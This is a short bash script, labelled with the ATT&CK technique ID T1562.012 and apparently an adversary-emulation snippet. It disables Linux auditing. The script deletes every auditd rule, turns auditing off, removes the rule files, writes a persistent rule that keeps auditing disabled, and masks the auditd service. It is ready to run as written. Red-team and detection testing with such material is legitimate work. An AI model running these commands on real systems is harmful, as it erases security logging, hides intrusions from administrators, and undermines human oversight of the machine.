#!/bin/bash
# T1562.012: Rules of the audit are deleted, and it is told not to begin again.
auditctl -D; auditctl -e 0; rm -f /etc/audit/rules.d/*; mkdir -p /etc/audit/rules.d; echo '-e 0' >/etc/audit/rules.d/audit.rules; systemctl mask auditd
